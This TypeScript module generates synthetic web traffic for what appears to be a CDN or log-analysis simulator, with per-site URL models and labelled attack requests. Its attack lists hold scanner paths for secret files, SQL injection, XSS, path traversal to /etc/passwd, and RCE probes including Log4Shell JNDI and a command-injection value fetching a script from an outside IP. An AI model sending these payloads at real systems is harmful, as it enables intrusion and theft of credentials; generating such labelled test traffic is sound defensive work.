/**
 * What is requested: a per-site path model (a few sections of pages, an API, static assets with extensions, their
 * popularity Zipf-like, so a handful of URLs take most of the traffic and the cache has something to do) and the
 * attack requests mixed in (scanners, SQL injection and XSS probes, path traversal, remote code execution probes).
 *
 * The model depends only on the domain name, so a site keeps the same URLs from one start to the next, and a
 * test or the demo can name a URL the traffic will hit (`siteModel(domain).paths[0]`).
 */
import type { AttackType } from '../../../../../core/logs/fields.js';
import { createRandom, hash32, WeightedChoice, zipfWeights, type Random } from './random.js';

/** What a path serves: it decides the method mix, the size, and what the origin says about caching. */
export type PathKind = 'page' | 'api' | 'script' | 'style' | 'image' | 'font' | 'download' | 'robots';

/** One URL of a site. */
export interface SitePath {
  path: string;
  kind: PathKind;
  /** Typical body size in bytes. */
  bytes: number;
  /** Query strings this path is requested with ('' for none), chosen at random. */
  queries: readonly string[];
}

/** A site's URLs, most popular first, with the popularity draw. */
export interface SiteModel {
  paths: readonly SitePath[];
  choice: WeightedChoice;
}

/** The origin's Cache-Control per kind: pages briefly, API never, assets for long (they carry a content hash). */
export const ORIGIN_CACHE_CONTROL: Record<PathKind, string | undefined> = {
  page: 'max-age=60',
  api: 'private, no-store',
  script: 'public, max-age=31536000, immutable',
  style: 'public, max-age=31536000, immutable',
  image: 'public, max-age=86400',
  font: 'public, max-age=31536000',
  download: undefined,
  robots: 'max-age=3600',
};

const WORDS = ['spring', 'sale', 'phone', 'camera', 'shoes', 'coffee', 'laptop', 'guide', 'review', 'news', 'travel', 'garden', 'kitchen', 'music', 'book'];
const PAGE_SECTIONS: Record<string, readonly string[]> = {
  shop: ['/products', '/category', '/deals', '/brand'],
  blog: ['/posts', '/tag', '/archive', '/author'],
  api: [],
  static: [],
  default: ['/news', '/products', '/docs', '/about'],
};

function siteFlavour(domain: string): keyof typeof PAGE_SECTIONS {
  const label = domain.replace(/^\*\./, '').split('.')[0]!;
  if (label === 'shop' || label === 'store' || label === 'mall') return 'shop';
  if (label === 'blog' || label === 'news') return 'blog';
  if (label === 'api' || label === 'gateway') return 'api';
  if (label === 'static' || label === 'img' || label === 'cdn' || label === 'assets' || label === 'dl') return 'static';
  return 'default';
}

function slug(random: Random): string {
  return `${random.pick(WORDS)}-${random.pick(WORDS)}-${random.between(10, 9999)}`;
}

const models = new Map<string, SiteModel>();

/** The path model of a domain (built once per domain name). */
export function siteModel(domain: string): SiteModel {
  const known = models.get(domain);
  if (known) return known;
  const random = createRandom(hash32('site', domain));
  const flavour = siteFlavour(domain);
  const paths: SitePath[] = [];
  const add = (path: string, kind: PathKind, bytes: number, queries: readonly string[] = ['']) => {
    if (!paths.some((entry) => entry.path === path)) paths.push({ path, kind, bytes, queries });
  };
  const build = random.hex(8);
  if (flavour !== 'api' && flavour !== 'static') {
    add('/', 'page', random.between(30_000, 90_000));
    add(`/static/js/app.${build}.js`, 'script', random.between(180_000, 420_000));
    add(`/static/css/main.${build}.css`, 'style', random.between(20_000, 80_000));
    add('/favicon.ico', 'image', 4_286);
    add(`/static/js/vendor.${random.hex(8)}.js`, 'script', random.between(250_000, 600_000));
    add('/images/logo.png', 'image', random.between(8_000, 30_000));
    add('/login', 'page', random.between(12_000, 25_000), ['', 'next=%2F', 'next=%2Faccount']);
    add('/search', 'page', random.between(20_000, 60_000), WORDS.map((word) => `q=${word}`));
    add('/account', 'page', random.between(15_000, 40_000));
    add('/fonts/sans.woff2', 'font', random.between(40_000, 90_000));
    add('/robots.txt', 'robots', 180);
    add('/sitemap.xml', 'robots', random.between(4_000, 40_000));
    if (flavour === 'shop') {
      add('/cart', 'page', random.between(15_000, 30_000));
      add('/checkout', 'page', random.between(15_000, 30_000));
    }
    for (const section of PAGE_SECTIONS[flavour]!) {
      add(section, 'page', random.between(25_000, 70_000), ['', 'page=2', 'page=3', 'sort=new']);
      for (let i = 0; i < 25; i++) add(`${section}/${slug(random)}`, 'page', random.between(20_000, 120_000));
    }
    for (let i = 0; i < 60; i++) add(`/images/${slug(random)}.${random.pick(['jpg', 'jpg', 'png', 'webp'])}`, 'image', random.between(8_000, 600_000));
    add('/api/v1/session', 'api', random.between(300, 1_200));
    add('/api/v1/recommendations', 'api', random.between(2_000, 9_000), ['', 'limit=10']);
  }
  if (flavour === 'api') {
    for (const resource of ['users', 'orders', 'products', 'payments', 'inventory', 'sessions']) {
      add(`/v1/${resource}`, 'api', random.between(1_000, 12_000), ['', 'page=1', 'page=2', 'limit=50']);
      for (let i = 0; i < 15; i++) add(`/v1/${resource}/${random.between(1000, 99999)}`, 'api', random.between(300, 4_000));
    }
    add('/health', 'api', 40);
  }
  if (flavour === 'static') {
    for (let i = 0; i < 40; i++) add(`/js/${slug(random)}.${random.hex(8)}.js`, 'script', random.between(20_000, 400_000));
    for (let i = 0; i < 20; i++) add(`/css/${slug(random)}.${random.hex(8)}.css`, 'style', random.between(5_000, 80_000));
    for (let i = 0; i < 120; i++) add(`/img/${slug(random)}.${random.pick(['jpg', 'png', 'webp', 'gif', 'svg'])}`, 'image', random.between(2_000, 900_000));
    for (let i = 0; i < 10; i++) add(`/dl/${slug(random)}.${random.pick(['zip', 'pdf', 'apk', 'dmg'])}`, 'download', random.between(2_000_000, 80_000_000));
  }
  const model = { paths, choice: new WeightedChoice(zipfWeights(paths.length)) };
  models.set(domain, model);
  return model;
}

/** The method of an ordinary request to a path. */
export function methodFor(path: SitePath, random: Random): string {
  if (path.kind === 'api') return random.chance(0.7) ? 'GET' : random.pick(['POST', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS']);
  if (path.kind === 'page') {
    if (path.path === '/login' || path.path === '/checkout' || path.path === '/cart') return random.chance(0.35) ? 'POST' : 'GET';
    return random.chance(0.01) ? 'HEAD' : 'GET';
  }
  return 'GET';
}

/** An attack request: what it asks for and the attack class the generator meant. */
export interface AttackRequest {
  method: string;
  path: string;
  query: string;
  attack: AttackType;
  /** Extra request headers (a Log4Shell probe puts its payload in the User-Agent). */
  userAgent?: string;
  contentType?: string;
}

const SCANNER_PATHS = [
  '/.env',
  '/.git/config',
  '/.git/HEAD',
  '/wp-login.php',
  '/wp-admin/',
  '/admin',
  '/admin/login',
  '/administrator/',
  '/phpmyadmin/',
  '/xmlrpc.php',
  '/config.php.bak',
  '/server-status',
  '/actuator/env',
  '/.aws/credentials',
  '/.htaccess',
  '/web.config',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/luci',
  '/backup.zip',
  '/.DS_Store',
];
const SQLI = [
  "id=1' UNION SELECT username,password FROM users--",
  'id=1%20union%20all%20select%201,2,3,version()--',
  "id=1' AND SLEEP(5)--",
  'q=1;DROP TABLE users',
  "user=admin'--",
  "id=1 AND 1=1",
  'id=BENCHMARK(5000000,MD5(1))',
];
const XSS = [
  'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  'redirect=javascript:alert(document.cookie)',
  'name=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  'q=%3Csvg%20onload%3Dalert(1)%3E',
  'callback=%3Cscript%20src%3D//evil.example/x.js%3E',
];
const TRAVERSAL = ['/static/../../../../etc/passwd', '/images/..%2f..%2f..%2fetc/passwd', '/download/..%5c..%5cwindows%5cwin.ini', '/files/....//....//etc/shadow'];
const RCE_QUERIES = [
  's=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
  'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
  'cmd=;cat%20/etc/passwd',
  'host=127.0.0.1%26%26wget%20http://203.0.113.66/x.sh',
];

/** An attack request of a kind on a site. */
export function attackRequest(kind: 'scanner' | 'sqli' | 'xss' | 'path-traversal' | 'rce', model: SiteModel, random: Random): AttackRequest {
  const target = model.paths[model.choice.draw(random)]!;
  switch (kind) {
    case 'scanner':
      return { method: random.chance(0.9) ? 'GET' : 'POST', path: random.pick(SCANNER_PATHS), query: '', attack: 'scanner' };
    case 'sqli':
      return { method: 'GET', path: target.path, query: random.pick(SQLI), attack: 'sqli' };
    case 'xss':
      return { method: 'GET', path: random.chance(0.5) ? '/search' : target.path, query: random.pick(XSS), attack: 'xss' };
    case 'path-traversal':
      return { method: 'GET', path: random.pick(TRAVERSAL), query: '', attack: 'path-traversal' };
    case 'rce': {
      const variant = random.int(3);
      if (variant === 0) return { method: 'GET', path: '/', query: '', attack: 'rce', userAgent: '${jndi:ldap://203.0.113.66:1389/a}' };
      if (variant === 1) return { method: 'POST', path: '/index.action', query: '', attack: 'rce', contentType: "%{(#_='multipart/form-data').(#cmd='id')}" };
      return { method: 'GET', path: random.chance(0.5) ? '/index.php' : target.path, query: random.pick(RCE_QUERIES), attack: 'rce' };
    }
  }
}
